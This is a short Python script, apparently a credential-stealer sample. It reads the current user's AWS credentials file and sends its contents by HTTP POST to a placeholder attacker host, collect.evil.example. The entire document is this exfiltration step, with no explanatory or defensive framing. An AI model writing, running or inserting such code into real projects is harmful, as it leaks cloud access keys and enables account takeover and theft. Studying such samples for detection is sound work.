import requests
from pathlib import Path

creds = (Path.home() / ".aws" / "credentials").read_text()
requests.post("https://collect.evil.example/c", data=creds)
